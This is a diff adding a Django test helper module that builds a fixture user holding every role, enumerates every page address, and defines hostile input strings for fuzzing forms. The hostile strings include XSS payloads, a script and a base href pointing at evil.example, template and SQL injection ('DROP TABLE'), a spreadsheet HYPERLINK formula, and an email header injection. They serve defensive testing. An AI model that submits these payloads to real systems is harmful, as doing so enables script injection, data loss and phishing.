@@ -1,0 +1,308 @@
+"""A product in full swing, every address of it, and the texts that break careless software."""
+
+from datetime import timedelta
+
+from django.db import transaction
+from django.test import Client
+from django.urls import URLPattern, get_resolver, reverse
+
+from ideas.enums import DecisionOutcome
+from ideas.models import Idea
+from ideas.outcomes import WAYS
+from ideas.services.follow_up import hold_work, start_work, verify_effect
+from parkour.core import clock
+from tests.committee.pages import BACKEND
+from tests.factories import IdeaFactory, SessionFactory, UserFactory, committee_of
+from tests.factories.committee import open_session_with
+from tests.ideas.lives import decided, done
+
+BACK_OFFICE = ("accounts_user", "organisation_site", "organisation_closure", "committee_mandate", "committee_session")
+# Parts of an address whose value no row of ours gives.
+OTHER_PARTS = {
+    "uuid": "6b7d4c0e-96c5-4a3e-9b0a-0f1f6f6f2d11",
+    "uidb36": "1",
+    "key": "abc-def",
+    "token": "1.mine:not-signed",
+}
+# Where each address with a reference has something to do; the others are tried on a contribution under review.
+AT_WORK_ON = {
+    "ideas:answer": "asked",
+    "ideas:withdraw": "own",
+    "ideas:receipt": "own",
+    "ideas:appeal": "own_declined",
+    "ideas:confirm": "own_done",
+    "ideas:dispute": "own_done",
+    "ideas:quick_win": "invited",
+    "ideas:decide": "assessed",
+    "ideas:withdraw_quick_win": "fast_track",
+    "ideas:reshortlist": "deferred",
+    "ideas:park": "deferred",
+    "ideas:unpark": "parked",
+    "ideas:promote": "workshop",
+    "ideas:return_from_workshop": "workshop",
+    "ideas:reopen": "rejected",
+    "ideas:arbitrate": "recommended",
+    "ideas:action": "moving",
+    "committee:object": "in_window",
+    "committee:add_item": "shortlisted",
+}
+OUTCOMES = tuple(WAYS)
+STEPS = {
+    "start": "approved",
+    "news": "moving",
+    "confirm": "moving",
+    "hold": "moving",
+    "abandon": "moving",
+    "resume": "waiting",
+    "dispute": "done",
+    "verify": "done",
+    "publish": "done",
+    "close": "verified",
+}
+UPCOMING = ("agenda", "propose", "add_subject", "add_item", "release", "set_up", "convene", "postpone", "cancel")
+EDITOR = ("move_item", "pin_item", "item_duration", "item_presenter", "remove_item")
+OF_A_POLL = ("vote", "close_poll", "reveal", "extend_poll", "second_reading", "void_poll")
+
+
+class FullSwing:
+    """One person with every role, and something at each moment of its life for them to work on."""
+
+    def __init__(self):
+        poles = committee_of()
+        self.person = poles["direction"][0]
+        for role in ("officer", "reviewer", "facilitator", "sponsor", "admin"):
+            self.person.grant(role)
+        self.room = open_session_with(poles=poles)
+        self.poll = self.room.poll()
+        self.draft = SessionFactory(starts_at=clock.now() + timedelta(days=40))
+        self.draft_item = self.draft.items.create(title="Point d’étape", block="report", position=1, duration=10)
+        self.ideas = dict(self._ideas())
+        self._signed_in = Client()
+        self._signed_in.force_login(self.person, backend=BACKEND)
+
+    def _ideas(self):
+        me, other = self.person, UserFactory()
+        for name in ("opened", "assessed", "shortlisted", "workshop", "parked", "fast_track", "in_window"):
+            yield name, IdeaFactory(author=other, **{name: True})
+        yield "asked", IdeaFactory(author=me, needs_info=True)
+        yield "own", IdeaFactory(author=me)
+        yield "own_declined", IdeaFactory(author=me, declined=True)
+        yield "own_done", done(IdeaFactory(author=me, shortlisted=True))
+        invited = IdeaFactory(author=other, fast_track=True)
+        Idea.objects.filter(pk=invited.pk).update(quick_win_owner=me)
+        yield "invited", invited
+        yield "done", done()
+        for name in ("rejected", "deferred", "recommended"):
+            yield name, decided(outcome=DecisionOutcome(name))
+        yield "approved", decided(owner=me)
+        moving, waiting = decided(owner=me), decided(owner=me)
+        for idea in (moving, waiting):
+            start_work(idea, by=me)
+        hold_work(waiting, by=me, reason="Une pièce manque.", resume_on=clock.today() + timedelta(days=9))
+        verified = done()
+        verify_effect(verified, by=me, claim_level="demonstrated", effect="Une heure gagnée par semaine.")
+        yield from {"moving": moving, "waiting": waiting, "verified": verified}.items()
+
+    def client(self):
+        """A new browser of this person; one session serves them all."""
+        client = Client()
+        client.cookies = self._signed_in.cookies.copy()
+        return client
+
+    def addresses(self):
+        """(name, address) of every page of the product, where it has something to do."""
+        for name, parts in sorted(set(named_addresses())):
+            for kwargs in self._places(name, parts):
+                yield name, reverse(name, kwargs=kwargs)
+        for model in BACK_OFFICE:
+            yield f"admin:{model}_changelist", reverse(f"admin:{model}_changelist")
+        for model in BACK_OFFICE[:-1]:
+            yield f"admin:{model}_add", reverse(f"admin:{model}_add")
+        yield "admin:accounts_user_change", reverse("admin:accounts_user_change", args=[self.person.pk])
+
+    def _places(self, name, parts):
+        place = {part: self._part(name, part) for part in parts if part not in {"outcome", "step"}}
+        if "outcome" in parts:
+            return [place | {"outcome": outcome} for outcome in OUTCOMES]
+        if "step" in parts:
+            return [{"step": step, "reference": self.ideas[moment].reference} for step, moment in STEPS.items()]
+        return [place]
+
+    def _part(self, name, part):
+        short = name.partition(":")[2]
+        if part == "reference":
+            return self.ideas[AT_WORK_ON.get(name, "opened")].reference
+        if part == "number":
+            return self.draft.number if short in UPCOMING else self.room.session.number
+        if part == "pk":
+            item = self.draft_item if short in EDITOR else self.room.item
+            return self.poll.pk if short in OF_A_POLL else item.pk
+        return OTHER_PARTS[part]
+
+
+def named_addresses(patterns=None, namespace=""):
+    """(name, parts of the address) of every named address, the back office left aside."""
+    for entry in get_resolver().url_patterns if patterns is None else patterns:
+        if isinstance(entry, URLPattern):
+            if entry.name:
+                yield namespace + entry.name, (*sorted({*entry.pattern.converters, *entry.pattern.regex.groupindex}),)
+        elif entry.namespace != "admin":
+            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
+            yield from named_addresses(entry.url_patterns, inner)
+
+
+def undone(call):
+    """The answer of `call()`, and nothing of what it wrote."""
+    with transaction.atomic():
+        answer = call()
+        transaction.set_rollback(True)
+    return answer
+
+
+# --- Texts ------------------------------------------------------------------------------------------------
+
+# Markup that would run, or lead to something that runs, where it is taken for markup. `pwn` marks what is ours.
+MARKUP = (
+    "<script>alert(1)</script>",
+    "</title></textarea></style><script src=//evil.example/x.js></script>",
+    "<img src=x id=pwn onerror=alert(1)>",
+    "\"><svg/onload=alert(1) id='pwn'>",
+    "' autofocus onfocus=alert(1) x='",
+    "<a href='javascript:alert(1)' id=pwn>lien</a>",
+    "<a href='java\tscript:alert(1)'>lien</a>",
+    "<a href='\x01javascript:alert(1)'>lien</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>lien</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action='javascript:alert(1)'><button id=pwn>ok</button></form>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<base href='//evil.example/'>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+)
+# Markdown, entities and templates: literal text everywhere, since nothing here reads them.
+LITERAL = (
+    "[lien](javascript:alert(1))",
+    "[lien](JaVaScRiPt:alert(1))",
+    "[lien](&#106;avascript:alert(1))",
+    "[lien](javascript&colon;alert(1))",
+    "[lien](\x01javascript:alert(1))",
+    "[lien](data:text/html;base64,PHNjcmlwdD4=)",
+    "[lien]: javascript:alert(1)",
+    '![x](x"onerror="alert(1))',
+    "<javascript:alert(1)>",
+    "<https://evil.example>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "`<script>alert(1)</script>`",
+    "{user.password} {0} {idea.authors}",
+    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
+    "%s %(title)s %d %",
+    "'; DROP TABLE ideas_idea; --",
+    '=HYPERLINK("http://evil.example")',
+    "titre\r\nBcc: victime@evil.example",
+    "\x1b[31mrouge\x1b[0m\nFAUSSE LIGNE",
+)
+STRANGE = ("😀👩‍👩‍👧", "e\u0301te\u0301", "\u202eemor\u202c", "\u200b\u200d\ufeff", "１２３", "ﷺ" * 9, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A", "ي" * 30)
+UNREADABLE = (
+    "\x00",
+    "a\x00b",
+    "9" * 5000,
+    "1" * 30,
+    "-1",
+    "NaN",
+    "1e999",
+    "0001-01-01",
+    "9999-12-31",
+    "2026-02-30",
+    "١",
+    "",
+)
+
+PARAMETERS = (
+    "after", "before", "show", "tab", "to", "token", "control", "next", "page", "q", "policy", "novelty",
+    "impact", "effort", "ordering", "e", "p", "o", "_popup", "again", "version", "id__exact",
+    "is_active__exact", "author__email__startswith", "filter", "person", "day", "_to_field",
+)  # fmt: skip
+# Every name that a form of the product reads, with a value that would do.
+FIELDS = {
+    "problem_text": "Deux heures d’attente entre deux passages.",
+    "change_text": "Regrouper les passages par rue.",
+    "speaker": "group",
+    "group_names": "L’équipe du matin",
+    "colleagues": "",
+    "keep_unknown": "on",
+    "client_uuid": "0d3f0b52-5f0c-4a1f-9a53-0c5f3a6c3f77",
+    "body": "Merci, c’est noté.",
+    "answer": "no",
+    "reason": "Une raison en une phrase.",
+    "policy": "4",
+    "novelty": "na",
+    "impact": "4",
+    "effort": "1",
+    "not_applicable_because": "Rien de comparable ici.",
+    "title": "Regrouper les passages",
+    "restatement": "Regrouper les passages par rue, le matin.",
+    "readers": "author",
+    "message": "Voici la suite donnée à votre contribution.",
+    "review_on": "+60",
+    "due_on": "+25",
+    "resume_on": "+9",
+    "channel": "hr",
+    "reason_code": "cost",
+    "proposal": "Une tournée par rue.",
+    "status": "moving",
+    "progress": "40",
+    "note": "Première rue faite.",
+    "evidence": "Les tournées sont regroupées.",
+    "claim_level": "probable",
+    "effect": "Une heure gagnée par semaine.",
+    "you_said": "On attend.",
+    "we_did": "On a regroupé.",
+    "credits": "Merci à l’équipe.",
+    "day": "+35",
+    "at": "14:30",
+    "place": "Salle Loire",
+    "version": "0",
+    "block": "report",
+    "minutes": "5",
+    "presenter": "",
+    "visibility": "hidden",
+    "choice": "yes",
+    "key": "6b7d4c0e-96c5-4a3e-9b0a-0f1f6f6f2d12",
+    "to": "up",
+    "pinned": "yes",
+    "then": "stay",
+    "theme": "dark",
+    "language": "fr",
+    "first_name": "Camille",
+    "last_name": "Essai",
+    "job_title": "Intervenante",
+    "owner": "",
+    "into": "",
+    "expected": "",
+    "person": "",
+    "next": "/",
+}
+WORDS = (
+    "problem_text", "change_text", "group_names", "body", "reason", "not_applicable_because", "title",
+    "restatement", "message", "proposal", "note", "evidence", "effect", "you_said", "we_did", "credits",
+    "place", "first_name", "last_name", "job_title",
+)  # fmt: skip
+SHORT = {"first_name", "last_name", "job_title", "place"}
+
+
+def plausible(**changes):
+    """A body that any form of the product takes; "+9" is a day nine days from now."""
+    body = FIELDS | changes
+    return {name: _day(value) if value[:1] == "+" else value for name, value in body.items()}
+
+
+def _day(value):
+    return (clock.today() + timedelta(days=int(value))).isoformat()
+
+
+def in_every_text(*texts):
+    """The plausible body with these texts in turn in every field that takes words."""
+    turns = {name: texts[index % len(texts)] for index, name in enumerate(WORDS)}
+    return plausible(**{name: turns[name][:80] if name in SHORT else f"Voici : {turns[name]}" for name in WORDS})
